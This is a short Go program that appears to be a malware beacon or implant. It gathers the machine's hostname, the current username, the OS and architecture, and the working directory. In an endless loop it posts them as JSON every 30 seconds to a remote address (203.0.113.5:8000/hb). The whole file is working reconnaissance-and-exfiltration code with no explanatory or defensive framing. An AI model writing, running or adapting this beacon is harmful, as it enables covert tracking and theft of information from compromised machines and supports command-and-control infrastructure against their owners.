package main

import (
	"bytes"
	"encoding/json"
	"net/http"
	"os"
	"os/user"
	"runtime"
	"time"
)

type beacon struct {
	Host string `json:"h"`
	User string `json:"u"`
	OS   string `json:"o"`
	Dir  string `json:"d"`
}

func collect() beacon {
	h, _ := os.Hostname()
	u, _ := user.Current()
	wd, _ := os.Getwd()
	return beacon{Host: h, User: u.Username, OS: runtime.GOOS + "/" + runtime.GOARCH, Dir: wd}
}

func main() {
	for {
		b, _ := json.Marshal(collect())
		if r, err := http.Post("http://203.0.113.5:8000/hb", "application/json", bytes.NewReader(b)); err == nil {
			r.Body.Close()
		}
		time.Sleep(30 * time.Second)
	}
}
